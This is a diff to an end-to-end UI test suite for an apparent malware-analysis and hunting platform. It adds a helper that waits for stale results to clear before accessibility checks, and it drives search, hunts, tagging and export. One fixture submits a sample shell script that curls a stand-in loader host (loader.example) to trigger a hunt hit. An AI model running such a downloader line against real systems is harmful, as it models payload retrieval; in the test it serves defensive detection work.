@@ -90,6 +90,12 @@ async function press(page: Page, ...keys: Parameters<Page["keyboard"]["press"]>[
   for (const key of keys) await page.keyboard.press(key);
 }
 
+/** Breaches of what is drawn when nothing is being asked for: results of the query before are dimmed meanwhile. */
+async function breachesOf(page: Page): Promise<string[]> {
+  await page.waitForSelector(">>> .stale", { ...WAIT, hidden: true });
+  return await findBreaches(page);
+}
+
 async function find(page: Page, selector: string): Promise<ElementHandle> {
   return (await page.waitForSelector(`>>> ${selector}`, WAIT))!;
 }
@@ -102,7 +108,7 @@ Deno.test("a query is typed with suggestions, told where it is wrong, and narrow
   await openSearch(page, platform);
   await waitForHits(page, 12);
   await find(page, "canvas");
-  assert.deepEqual(await findBreaches(page), []);
+  assert.deepEqual(await breachesOf(page), []);
   await takePicture(page, "search");
 
   // Suggestions of fields and values, by keyboard.
@@ -114,7 +120,7 @@ Deno.test("a query is typed with suggestions, told where it is wrong, and narrow
   assert.equal(await queryOf(page), "fileType:");
   const value = await find(page, "li[role=option] ::-p-text(text)");
   await takePicture(page, "search-suggestions");
-  assert.deepEqual(await findBreaches(page), []);
+  assert.deepEqual(await breachesOf(page), []);
   await value.click();
   await press(page, "Enter");
   await waitForQuery(page, "fileType:text");
@@ -128,7 +134,7 @@ Deno.test("a query is typed with suggestions, told where it is wrong, and narrow
     /character 1: expected the name of a field.*verdict/s,
   );
   await takePicture(page, "search-error");
-  assert.deepEqual(await findBreaches(page), []);
+  assert.deepEqual(await breachesOf(page), []);
 
   // A module says where a hit is.
   await box.click({ count: 3 });
@@ -141,13 +147,13 @@ Deno.test("a query is typed with suggestions, told where it is wrong, and narrow
     await page.$eval(">>> .module", (m) => m.textContent!),
     /strings/,
   );
-  assert.deepEqual(await findBreaches(page), []);
+  assert.deepEqual(await breachesOf(page), []);
   await takePicture(page, "search-matches");
 
   // A value is added by the mouse, and another excluded by the keyboard; both are in the address.
   await (await find(page, "tr.hit button[data-field=fileType]")).click();
   await find(page, "[role=menuitem]:focus");
-  assert.deepEqual(await findBreaches(page), []);
+  assert.deepEqual(await breachesOf(page), []);
   await takePicture(page, "search-pivot");
   await press(page, "ArrowDown", "Enter");
   await waitForQuery(page, "loader.example fileType:shell");
@@ -182,7 +188,7 @@ Deno.test("a query is typed with suggestions, told where it is wrong, and narrow
   await press(page, "ArrowRight", "Enter");
   await page.waitForFunction(() => /size/.test(new URLSearchParams(location.search).get("q") ?? ""), WAIT);
   await takePicture(page, "search-span");
-  assert.deepEqual(await findBreaches(page), []);
+  assert.deepEqual(await breachesOf(page), []);
 
   // It is narrowed by the mouse, too; and what stands out in that is told.
   await page.goto(`${platform.url}?view=search&over=size`);
@@ -200,7 +206,7 @@ Deno.test("a query is typed with suggestions, told where it is wrong, and narrow
   await waitForHits(page, 6);
   await (await find(page, "summary::-p-text(What stands out)")).click();
   const standing = await find(page, "assay-significant >>> button.link[data-part='fileType:shell']");
-  assert.deepEqual(await findBreaches(page), []);
+  assert.deepEqual(await breachesOf(page), []);
   await takePicture(page, "search-significant");
   await standing.click();
   await waitForQuery(page, "loader.example fileType:shell");
@@ -211,9 +217,9 @@ Deno.test("a query is typed with suggestions, told where it is wrong, and narrow
   await press(page, "?");
   const example = await find(page, "button.link[data-text='ip:10.0.0.0/8']");
   await find(page, "td ::-p-text(Shannon entropy of the whole file)");
-  assert.deepEqual(await findBreaches(page), []);
+  assert.deepEqual(await breachesOf(page), []);
   await page.emulateMediaFeatures([{ name: "prefers-color-scheme", value: "dark" }]);
-  assert.deepEqual(await findBreaches(page), []);
+  assert.deepEqual(await breachesOf(page), []);
   await takePicture(page, "search-help-dark");
   await example.click();
   await page.waitForFunction(() => document.activeElement.shadowRoot.querySelector("assay-search"), WAIT);
@@ -223,14 +229,14 @@ Deno.test("a query is typed with suggestions, told where it is wrong, and narrow
   await page.goBack();
   await press(page, "?", "j", "j", "x", "e");
   await find(page, "tr.more");
-  assert.deepEqual(await findBreaches(page), []);
+  assert.deepEqual(await breachesOf(page), []);
   await takePicture(page, "search-unfolded-dark");
   await press(page, "o");
   await find(page, "article");
   await (await find(page, "button.back")).click();
   await find(page, "tr.hit.current");
   await page.setViewport({ width: 420, height: 860 });
-  assert.deepEqual(await findBreaches(page), []);
+  assert.deepEqual(await breachesOf(page), []);
   await takePicture(page, "search-narrow-dark");
   assert.deepEqual(errors, []);
 });
@@ -248,7 +254,7 @@ Deno.test("a search is saved, hunts, and tells of its hits; a whole result is co
   await (await find(page, "button::-p-text(Save search…)")).click();
   await (await find(page, "dialog[open] input[name=name]")).type("Loaders");
   await (await find(page, "dialog[open] select[name=tlp]")).select("green");
-  assert.deepEqual(await findBreaches(page), []);
+  assert.deepEqual(await breachesOf(page), []);
   await takePicture(page, "save-search");
   await press(page, "Enter");
   await page.waitForSelector(">>> dialog[open]", { ...WAIT, hidden: true });
@@ -265,18 +271,18 @@ Deno.test("a search is saved, hunts, and tells of its hits; a whole result is co
   await (await find(page, "button::-p-text(Hunt…)")).click();
   await (await find(page, "dialog[open] input[name=tags]")).type("caught");
   await find(page, "dialog[open] input[value=yara]");
-  assert.deepEqual(await findBreaches(page), []);
+  assert.deepEqual(await breachesOf(page), []);
   await takePicture(page, "hunt");
   await (await find(page, "dialog[open] button.primary")).click();
   await find(page, "td ::-p-text(live, 0 hits)");
-  assert.deepEqual(await findBreaches(page), []);
+  assert.deepEqual(await breachesOf(page), []);
   await takePicture(page, "searches");
   await analyse(platform, [file("late.sh", "#!/bin/sh\ncurl http://loader.example/late\n")], []);
   const count = await find(page, "b[aria-label='1 unread']");
   await find(page, "td ::-p-text(live, 1 hit)");
   await count.click();
   const hit = await find(page, "tr.unread button.link");
-  assert.deepEqual(await findBreaches(page), []);
+  assert.deepEqual(await breachesOf(page), []);
   await takePicture(page, "notifications");
   await hit.click();
   await find(page, "article");
@@ -296,11 +302,11 @@ Deno.test("a search is saved, hunts, and tells of its hits; a whole result is co
   await (await find(page, "dialog[open] input[name=tags]")).type("case-7");
   await press(page, "Enter");
   const confirm = await find(page, "dialog[open] button::-p-text(Tag 7 samples)");
-  assert.deepEqual(await findBreaches(page), []);
+  assert.deepEqual(await breachesOf(page), []);
   await takePicture(page, "bulk-tag");
   await confirm.click();
   await find(page, "p::-p-text(Tag: done, 7 looked at, 7 changed.)");
-  assert.deepEqual(await findBreaches(page), []);
+  assert.deepEqual(await breachesOf(page), []);
   await takePicture(page, "bulk-done");
 
   // Two that are selected go on the list; the list is searched.
@@ -315,7 +321,7 @@ Deno.test("a search is saved, hunts, and tells of its hits; a whole result is co
   await (await find(page, "nav a[href='/?view=lists']")).click();
   await (await find(page, "button.link::-p-text(Case 7)")).click();
   await find(page, "button[data-sha256]");
-  assert.deepEqual(await findBreaches(page), []);
+  assert.deepEqual(await breachesOf(page), []);
   await takePicture(page, "lists");
   await (await find(page, "button::-p-text(Search in it)")).click();
   await waitForHits(page, 2);
@@ -334,7 +340,7 @@ Deno.test("a search is saved, hunts, and tells of its hits; a whole result is co
   await (await find(page, "dialog[open] button::-p-text(Give away 2 samples)")).click();
   await find(page, "p::-p-text(Give away: done, 2 reports, 0 that failed.)");
   await page.emulateMediaFeatures([{ name: "prefers-color-scheme", value: "dark" }]);
-  assert.deepEqual(await findBreaches(page), []);
+  assert.deepEqual(await breachesOf(page), []);
   await takePicture(page, "export-dark");
   assert.deepEqual(errors, []);
 });
@@ -396,12 +402,12 @@ Deno.test("a search can be stopped, says when its pages are gone or it fails, an
   await (await find(page, "button::-p-text(Stop)")).click();
   const again = await find(page, "button::-p-text(Search again)");
   assert.equal(await abandoned.promise, "net::ERR_ABORTED");
-  assert.deepEqual(await findBreaches(page), []);
+  assert.deepEqual(await breachesOf(page), []);
 
   answer = "away";
   await again.click();
   const retry = await find(page, "[role=alert] button::-p-text(Try again)");
-  assert.deepEqual(await findBreaches(page), []);
+  assert.deepEqual(await breachesOf(page), []);
 
   // Pages of a moment that is no longer kept: said, and started again.
   answer = "pages";
@@ -412,7 +418,7 @@ Deno.test("a search can be stopped, says when its pages are gone or it fails, an
   // A row that is half under the head of the table is too small a target for axe.
   await page.$eval(">>> .scroll", (scroll) => scroll.scrollTo(0, 0));
   await find(page, "tr.hit [data-at='0']");
-  assert.deepEqual(await findBreaches(page), []);
+  assert.deepEqual(await breachesOf(page), []);
   await takePicture(page, "search-expired");
   answer = "real";
   await restart.click();
